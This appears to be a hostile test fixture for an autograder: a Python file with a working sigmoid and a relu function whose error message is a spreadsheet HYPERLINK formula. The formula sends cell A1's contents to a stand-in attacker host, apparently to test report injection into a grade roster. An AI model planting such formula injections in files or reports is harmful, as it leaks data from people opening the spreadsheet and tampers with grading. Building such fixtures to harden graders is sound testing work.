"""Hostile (report injection): a spreadsheet formula in relu's error message; the test also grades this file
under a name that is itself a formula, so that it lands in the roster's first column."""

import numpy as np


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e)).astype(z.dtype)


def relu(z):
    raise ValueError('=HYPERLINK("http://evil.example/?leak="&A1,"click for your grade")')
